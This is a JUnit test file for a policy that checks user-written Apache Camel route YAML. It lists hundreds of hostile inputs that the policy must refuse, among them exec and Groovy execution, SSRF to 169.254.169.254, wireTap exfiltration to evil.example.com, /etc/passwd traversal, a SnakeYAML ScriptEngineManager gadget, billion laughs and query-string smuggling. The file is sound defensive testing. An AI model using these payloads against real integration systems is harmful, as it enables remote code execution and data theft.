package org.postbag.console.changing;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The attacks on a route's YAML that were tried, each refused before Camel sees it. docs/route-policy.md tells of them in short. */
class RoutePolicyTest {

    private static final String ID = "second-mailbox";

    private static final String MAILBOX = """
            # A second mailbox.
            - templatedRoute:
                routeTemplateRef: email
                routeId: second-mailbox
                parameters:
                  - name: host
                    value: HOST
                  - name: username
                    value: USER
                  - name: password
                    value: "PASSWORD"
                  - name: folder
                    value: "FOLDER"
            """;

    private static final String FULL = """
            - route:
                id: second-mailbox
                from:
                  uri: "URI"
                  parameters:
                    OPTION
                  steps:
                    - STEP
            """;

    private static String mailbox(String host, String user, String password, String folder) {
        return MAILBOX.replace("HOST", host)
                .replace("USER", user)
                .replace("PASSWORD", password)
                .replace("FOLDER", folder);
    }

    private static String good() {
        return mailbox("imap.example.org", "second@example.org", "{{secret:second-mailbox}}", "INBOX");
    }

    private static String full(String uri, String option, String step) {
        return FULL.replace("URI", uri).replace("OPTION", option).replace("STEP", step);
    }

    private static String goodFull() {
        return full("timer:tick", "period: 1000", "process: {ref: exportFolder}");
    }

    private static List<Finding> check(String text) {
        return RoutePolicy.check(ID, text, AllowedInTests.ALLOWED);
    }

    static Stream<String> whatIsAllowed() {
        return Stream.of(
                good(),
                goodFull(),
                mailbox("'{{postbag.mail.host}}'", "u", "{{postbag.mail.password}}", "{{postbag.mail.folder:INBOX}}"),
                mailbox("a.mail.example.org", "u", "{{secret:a.b_c-D1}}", "Entwürfe/2026"),
                full(
                        "mailbox:imaps://imap.example.org:993",
                        "password: RAW({{secret:x}})",
                        "bean: {ref: mailArrivals, method: receive}"),
                full(
                        "file",
                        "{directoryName: '{{postbag.data}}/in/more', noop: true, idempotent: false, exclude: '(?i)\\..*|~.*|.*\\.(part|partial|filepart|tmp|temp|crdownload|camelLock)'}",
                        "setProperty: {name: profile, expression: {constant: {expression: contact-centre}}}"),
                full(
                        "direct:more",
                        "{}",
                        "bean: {ref: formArrivals, method: \"arrivals(${body}, 'second-mailbox')\"}"));
    }

    @ParameterizedTest
    @MethodSource("whatIsAllowed")
    void whatConnectorsDoIsAllowed(String text) {
        assertThat(check(text)).isEmpty();
    }

    static Stream<Arguments> attacks() {
        var attacks = new ArrayList<Arguments>();
        elements(attacks);
        values(attacks);
        addresses(attacks);
        steps(attacks);
        yaml(attacks);
        return attacks.stream();
    }

    private static void add(List<Arguments> attacks, String what, String text) {
        attacks.add(Arguments.of(what, text));
    }

    /** What else a Camel file may hold. */
    private static void elements(List<Arguments> attacks) {
        for (var entry : List.of(
                "beans:\n    - name: x\n      type: java.lang.ProcessBuilder",
                "beans:\n    - name: x\n      type: '#class:java.net.URL'",
                "beans:\n    - name: x\n      script: 'Runtime.getRuntime().exec(1)'\n      scriptLanguage: groovy",
                "rest:\n    path: /x",
                "restConfiguration:\n    component: jetty",
                "onException:\n    exception: [java.lang.Exception]\n    handled: {constant: {expression: 'true'}}",
                "onCompletion:\n    steps: []",
                "intercept:\n    steps: []",
                "interceptFrom:\n    uri: 'mailbox*'",
                "interceptSendToEndpoint:\n    uri: 'direct:*'",
                "errorHandler:\n    deadLetterChannel:\n      deadLetterUri: file:/tmp",
                "routeConfiguration:\n    id: other",
                "routeTemplate:\n    id: email",
                "kamelet:\n    name: x",
                "pipe:\n    name: x",
                "from:\n    uri: timer:x\n    steps: []",
                "sslContextParameters:\n    id: x",
                "dataFormats:\n    - json: {}",
                "templatedRoute ", // with a space behind
                "templаtedRoute")) { // with a Cyrillic letter
            add(
                    attacks,
                    "an entry " + entry.lines().findFirst().orElse(""),
                    "- " + entry + (entry.contains("\n") ? "\n" : ": {}\n"));
            add(
                    attacks,
                    "a second entry " + entry.lines().findFirst().orElse(""),
                    good() + "- " + entry + (entry.contains("\n") ? "\n" : ": {}\n"));
        }
        add(
                attacks,
                "beans beside the parameters",
                good() + "    beans:\n      - name: x\n        type: java.io.File\n");
        add(attacks, "another route's id", good().replace("routeId: second-mailbox", "routeId: enquiries-mailbox"));
        add(attacks, "no id", good().replace("    routeId: second-mailbox\n", ""));
        add(attacks, "a prefix to ids", good() + "    prefixId: x\n");
        add(
                attacks,
                "a connector that isn't there",
                good().replace("routeTemplateRef: email", "routeTemplateRef: exec"));
        add(attacks, "a connector by its kebab name", good().replace("routeTemplateRef", "route-template-ref"));
        add(attacks, "a parameter that the connector hasn't", good().replace("name: folder", "name: authenticator"));
        add(attacks, "a parameter twice", good() + "      - name: host\n        value: evil.example.com\n");
        add(
                attacks,
                "an entry beside name and value",
                good().replace("value: INBOX", "value: INBOX")
                        .replace("  - name: folder\n", "  - name: folder\n        type: x\n"));
        add(attacks, "a value that is a mapping", good().replace("value: \"INBOX\"", "value: {ref: x}"));
        add(attacks, "a value that is a list", good().replace("value: \"INBOX\"", "value: [a, b]"));
    }

    /** What stands in a parameter. */
    private static void values(List<Arguments> attacks) {
        for (var folder : List.of(
                "#bean:dataSource",
                "#class:java.lang.ProcessBuilder",
                "#type:javax.sql.DataSource",
                "#property:x",
                "#valueAs(int):1",
                "#dataSource",
                "{{env:PATH}}",
                "{{sys:user.home}}",
                "{{service:x}}",
                "{{bean:dataSource.password}}",
                "{{base64:eA==}}",
                "{{secret:second-mailbox}}",
                "{{postbag.mail.password}}",
                "{{postbag.mail.folder:{{env:PATH}}}}",
                "{{postbag.mail.folder:INBOX}}{{env:PATH}}",
                "{{?postbag.mail.folder}}",
                "{{!postbag.mail.folder}}",
                "{{spring.datasource.password}}",
                "${env:PATH}",
                "${bean:x}",
                "${body}",
                "$simple{body}",
                "RAW(x)&delete=true",
                "INBOX&delete=true",
                "INBOX?delete=true",
                "INBOX)&mail.smtp.host=evil",
                "INBOX#x",
                "%26delete%3Dtrue",
                "a;b",
                "a`id`",
                "<script>",
                "ＩＮＢＯＸ",
                "｛｛env:PATH｝｝",
                "a\\u202eb",
                "a\\0b",
                "a\\nb",
                "a\\u200bb",
                "x".repeat(501))) {
            add(attacks, "a folder " + folder, mailbox("imap.example.org", "u", "{{secret:x}}", folder));
        }
        for (var host : List.of(
                "evil.example.com",
                "169.254.169.254",
                "localhost",
                "127.0.0.1",
                "imap.example.org.evil.com",
                "imap.example.org@evil.com",
                "evil.com/imap.example.org",
                "imap.example.org:25",
                "IMAP.EXAMPLE.ORG",
                "ımap.example.org",
                "mail.example.org",
                "x.y.mail.example.org",
                "'{{postbag.mail.password}}'",
                "'{{secret:x}}'",
                "'[::1]'",
                "'0x7f000001'",
                "''")) {
            add(attacks, "a machine " + host, mailbox(host, "u", "{{secret:x}}", "INBOX"));
        }
        for (var password : List.of(
                "hunter2",
                "none",
                "{{secret:}}",
                "{{secret:a/b}}",
                "{{secret:../../etc/passwd}}",
                "{{secret:x}}{{secret:y}}",
                "x{{secret:x}}",
                "{{secret:x:default}}",
                "{{SECRET:x}}",
                "{{postbag.other}}",
                "${{secret:x}}")) {
            add(attacks, "a password " + password, mailbox("imap.example.org", "u", password, "INBOX"));
        }
        for (var folder : List.of(
                "/",
                "/etc",
                "/srv/postbag/in",
                "/srv/postbag/in/../raw",
                "/srv/postbag/inside",
                "in/telephone",
                "'{{postbag.data}}'",
                "'{{postbag.data}}/raw'",
                "'{{postbag.data}}/in/../raw'",
                "'{{postbag.data}}/in/..'",
                "'{{postbag.data}}/in/.hidden'",
                "file:/etc",
                "'\\\\server\\share'",
                "~/x")) {
            add(attacks, "a folder here " + folder, telephone(folder, "contact-centre"));
        }
        for (var profile : List.of("../../etc/passwd", "a/b", "A", "contact-centre.yaml", "'{{env:X}}'")) {
            add(attacks, "a profile " + profile, telephone("'{{postbag.data}}/in/more'", profile));
        }
    }

    private static String telephone(String folder, String profile) {
        return "- templatedRoute:\n    routeTemplateRef: telephone\n    routeId: second-mailbox\n    parameters:\n      - name: folder\n        value: "
                + folder + "\n      - name: profile\n        value: " + profile + "\n";
    }

    /** Where a route of its own gets its items. */
    private static void addresses(List<Arguments> attacks) {
        for (var uri : List.of(
                "exec:id",
                "docker:x",
                "ssh://evil",
                "http://evil.example.com",
                "https://169.254.169.254/latest/meta-data",
                "netty-http:http://0.0.0.0:80",
                "jdbc:dataSource",
                "sql:select 1",
                "bean:dataSource",
                "class:java.lang.Runtime",
                "language:groovy:1",
                "script:x",
                "kafka:postbag.receipts",
                "ftp://evil",
                "file:/etc?noop=true",
                "file:///etc",
                "log:x?showAll=true",
                "seda:x",
                "vm:x",
                "jms:x",
                "ldap:x",
                "rest:get:x",
                "controlbus:route?routeId=enquiries-mailbox&action=stop",
                "dataset:x",
                "stream:in",
                "scheduler:x",
                "quartz:x",
                "imaps://imap.example.org",
                "mailbox:smtp://imap.example.org:25",
                "mailbox:imaps://user:password@imap.example.org:993",
                "mailbox:imaps://evil.example.com:993",
                "mailbox:imaps://imap.example.org:993?delete=true",
                "mailbox:imaps://imap.example.org",
                "timer:x?bridgeErrorHandler=true",
                "timer:{{env:PATH}}",
                "direct:a?b=c",
                "MAILBOX:imaps://imap.example.org:993",
                "#endpoint",
                "ref:endpoint",
                "{{postbag.mail.host}}")) {
            add(attacks, "the address " + uri, full(uri, "{}", "process: {ref: exportFolder}"));
        }
        for (var option : List.of(
                "delete: true",
                "unseen: true",
                "javaMailProperties: '#class:java.util.Properties'",
                "session: '#bean:x'",
                "sslContextParameters: '#x'",
                "debugMode: true",
                "exceptionHandler: '#bean:x'",
                "pollStrategy: '#class:x'",
                "bridgeErrorHandler: true",
                "additionalJavaMailProperties.mail.imap.host: evil",
                "moveTo: 'a&delete=true'",
                "password: hunter2",
                "delay: '1000&delete=true'",
                "runLoggingLevel: TRACE",
                "username: 'RAW(x)&delete=true&y=RAW(z)'")) {
            add(
                    attacks,
                    "the option " + option,
                    full("mailbox:imaps://imap.example.org:993", option, "bean: {ref: mailArrivals, method: receive}"));
        }
        for (var option : List.of(
                "{directoryName: /etc, noop: true, idempotent: false}",
                "{directoryName: '{{postbag.data}}/in/x', idempotent: false}",
                "{directoryName: '{{postbag.data}}/in/x', noop: true, idempotent: false, delete: true}",
                "{directoryName: '{{postbag.data}}/in/x', noop: true, idempotent: false, move: /tmp}",
                "{directoryName: '{{postbag.data}}/in/x', noop: true, idempotent: false, preMove: x}",
                "{directoryName: '{{postbag.data}}/in/x', noop: true, idempotent: false, fileName: '${bean:x}'}",
                "{directoryName: '{{postbag.data}}/in/x', noop: true, idempotent: false, include: '(a+)+$'}",
                "{directoryName: '{{postbag.data}}/in/x', noop: true, idempotent: false, recursive: true}",
                "{directoryName: '{{postbag.data}}/in/x', noop: false, idempotent: false}",
                "{directoryName: '{{postbag.data}}/in/x', noop: true, idempotent: false, sortBy: '${bean:x}'}",
                "{directoryName: '{{postbag.data}}/in/x', noop: true, idempotent: false, exclude: '(a+)+$'}",
                "{directoryName: '{{postbag.data}}/in/x', noop: true, idempotent: false, processStrategy: '#bean:x'}")) {
            add(attacks, "the folder options " + option, full("file", option, "process: {ref: exportFolder}"));
        }
    }

    /** What it does with them. */
    private static void steps(List<Arguments> attacks) {
        for (var step : List.of(
                "script: {groovy: {expression: '1'}}",
                "script: {simple: {expression: '${bean:x}'}}",
                "setBody: {groovy: {expression: '1'}}",
                "setBody: {simple: {expression: '${bean:dataSource}'}}",
                "setHeader: {name: CamelFileName, constant: /etc/passwd}",
                "setProperty: {name: profile, simple: '${env:PATH}'}",
                "setProperty: {name: profile, expression: {method: {ref: x}}}",
                "setProperty: {name: profile, expression: {groovy: '1'}}",
                "setProperty: {name: profile, expression: {constant: {expression: x, resultType: java.io.File}}}",
                "setProperty: {name: profile, constant: '{{env:PATH}}'}",
                "setProperty: {name: host, constant: evil.example.com}",
                "setProperty: {name: baseUrl, constant: 'http://api.twitter.com/'}",
                "setProperty: {name: baseUrl, constant: 'https://evil.example.com/'}",
                "setProperty: {name: password, constant: hunter2}",
                "setProperty: {name: CamelCharsetName, constant: x}",
                "to: {uri: 'http://evil.example.com'}",
                "to: 'file:/tmp'",
                "toD: {uri: '${header.x}'}",
                "wireTap: {uri: 'http://evil.example.com'}",
                "recipientList: {constant: 'http://evil.example.com'}",
                "routingSlip: {constant: x}",
                "dynamicRouter: {constant: x}",
                "enrich: {constant: x}",
                "pollEnrich: {constant: 'file:/etc'}",
                "multicast: {steps: []}",
                "doTry: {steps: [], doCatch: [{exception: [java.lang.Exception], steps: [{to: 'http://evil'}]}]}",
                "doTry: {steps: [], doFinally: {steps: [{to: 'exec:id'}]}}",
                "circuitBreaker: {steps: [], onFallback: {steps: [{to: 'exec:id'}]}}",
                "choice: {when: [{simple: '${bean:x}', steps: []}]}",
                "filter: {groovy: '1', steps: []}",
                "split: {simple: '${bean:x}', steps: []}",
                "loop: {constant: '1000000000', steps: []}",
                "delay: {constant: '1000000000'}",
                "convertBodyTo: {type: java.io.File}",
                "unmarshal: {java: {}}",
                "unmarshal: {xstream: {}}",
                "marshal: {custom: {ref: x}}",
                "transform: {groovy: '1'}",
                "throwException: {exceptionType: java.lang.Error}",
                "stop: {}",
                "removeHeaders: {pattern: '*'}",
                "saga: {steps: []}",
                "kamelet: {name: x}",
                "process: {ref: dataSource}",
                "process: {ref: '#class:x'}",
                "process: {ref: 'exportFolder '}",
                "bean: {ref: dataSource, method: getConnection}",
                "bean: {beanType: java.lang.Runtime, method: exec}",
                "bean: {ref: mailArrivals, method: getClass}",
                "bean: {ref: receiver, method: 'receive(${bean:x})'}",
                "bean: {ref: formArrivals, method: arrivals}",
                "bean: {ref: formArrivals, method: \"arrivals(${body}, 'enquiries-mailbox')\"}",
                "bean: {ref: formArrivals, method: \"arrivals(${bean:x}, 'second-mailbox')\"}",
                "bean: {ref: mailArrivals, method: receive, scope: Prototype}",
                "log: '${body}'",
                "log: {message: x, loggerRef: x}",
                "log: '{{env:PATH}}'")) {
            add(attacks, "the step " + step, full("timer:tick", "period: 1000", step));
        }
        add(
                attacks,
                "a dead letter channel",
                goodFull()
                        .replace(
                                "    from:",
                                "    errorHandler: {deadLetterChannel: {deadLetterUri: 'http://evil'}}\n    from:"));
        add(
                attacks,
                "a shared configuration",
                goodFull().replace("    from:", "    routeConfigurationId: other\n    from:"));
        add(attacks, "a route policy", goodFull().replace("    from:", "    routePolicy: '#bean:x'\n    from:"));
        add(
                attacks,
                "a start of its own",
                goodFull().replace("    from:", "    autoStartup: '{{env:PATH}}'\n    from:"));
        add(attacks, "tracing switched on", goodFull().replace("    from:", "    trace: true\n    from:"));
    }

    /** What YAML itself can do. */
    private static void yaml(List<Arguments> attacks) {
        add(
                attacks,
                "a tag that names a class",
                "- !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil\"]]\n");
        add(attacks, "a tag of one's own", good().replace("value: \"INBOX\"", "value: !x INBOX"));
        add(attacks, "a tag for text", good().replace("value: \"INBOX\"", "value: !!str INBOX"));
        add(attacks, "an anchor", good().replace("value: \"INBOX\"", "value: &a INBOX"));
        add(
                attacks,
                "an alias",
                good().replace("value: \"INBOX\"", "value: &a INBOX")
                        .replace("value: second@example.org", "value: *a"));
        add(attacks, "a billion laughs", "a: &a [x,x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nd: [*c,*c,*c]\n");
        add(attacks, "an alias of itself", "- &a [*a]\n");
        add(
                attacks,
                "a merge key",
                good().replace("      - name: folder\n", "      - <<: {name: host}\n        name: folder\n"));
        add(attacks, "the same key twice", good() + "    routeId: second-mailbox\n");
        add(attacks, "the same key twice, once quoted", good() + "    \"routeId\": second-mailbox\n");
        add(attacks, "a second document", good() + "---\n- beans: []\n");
        add(attacks, "a directive", "%YAML 1.1\n---\n" + good());
        add(attacks, "a directive for tags", "%TAG ! tag:java.lang.\n---\n" + good());
        add(attacks, "deep nesting", "[".repeat(20_000) + "]".repeat(20_000));
        add(attacks, "deep nesting in blocks", "- ".repeat(20_000) + "x");
        add(attacks, "deep nesting of mappings", "{a: ".repeat(5_000) + "x" + "}".repeat(5_000));
        add(attacks, "many entries", "[" + "x,".repeat(20_000) + "x]");
        add(attacks, "a huge text", "# " + "x".repeat(100_000) + "\n" + good());
        add(attacks, "a NUL", good().replace("A second", "A\0second"));
        add(attacks, "a bell", good().replace("A second", "A\u0007second"));
        add(attacks, "text that runs backwards, in a comment", good().replace("A second", "A \u202esecond"));
        add(attacks, "a space without width", good().replace("routeId", "route\u200bId"));
        add(attacks, "a byte order mark", "\ufeff" + good());
        add(attacks, "a space that doesn't break", good().replace("host\n", "host\u00a0\n"));
        add(attacks, "a line end of Unicode", good().replace("A second", "A\u2028- beans: []"));
        add(attacks, "a line end of old", good().replace("A second", "A\u0085- beans: []"));
        add(attacks, "half a character", good().replace("A second", "A\ud800second"));
        add(attacks, "a key that is a mapping", "- {{a: b}: c}\n");
        add(attacks, "a key that is a list", "- ? [a]\n  : b\n");
        add(attacks, "a key in letters that look alike", good().replace("routeTemplateRef", "routeТemplateRef"));
        add(attacks, "no list", "templatedRoute: {}\n");
        add(attacks, "text", "just text");
        add(attacks, "nothing", "");
        add(attacks, "only a comment", "# nothing\n");
        add(attacks, "an empty list", "[]");
        add(attacks, "null", "- null\n");
        add(attacks, "half of YAML", "- route:\n    id: broken\n   from: [\n");
        add(attacks, "a tabulator", "- templatedRoute:\n\trouteId: x\n");
        add(attacks, "JSON with a class", "[{\"beans\": [{\"name\": \"x\", \"type\": \"java.io.File\"}]}]");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void anAttackIsRefused(String what, String text) {
        assertThat(check(text)).as(what).isNotEmpty().allMatch(Finding::stops);
    }

    @Test
    void moreThanAHundredWereTried() {
        assertThat(attacks().map(one -> one.get()[1]).distinct().count()).isGreaterThan(250);
    }

    @Test
    void itSaysWhere() {
        var findings = check(good().replace("value: imap.example.org", "value: evil.example.com"));

        assertThat(findings).singleElement().satisfies(finding -> {
            assertThat(finding.stage()).isEqualTo(Finding.Stage.POLICY);
            assertThat(finding.line()).isEqualTo(7);
            assertThat(finding.column()).isEqualTo(16);
            assertThat(finding.message()).contains("evil.example.com", "postbag.routes.hosts");
        });
    }

    @Test
    void whatIsMissingIsSaidTogether() {
        var findings = check("- templatedRoute:\n    routeTemplateRef: email\n    routeId: second-mailbox\n");

        assertThat(findings).extracting(Finding::message).hasSize(3).allMatch(words -> words.contains("is missing"));
        assertThat(findings).extracting(Finding::stage).containsOnly(Finding.Stage.READING);
    }
}
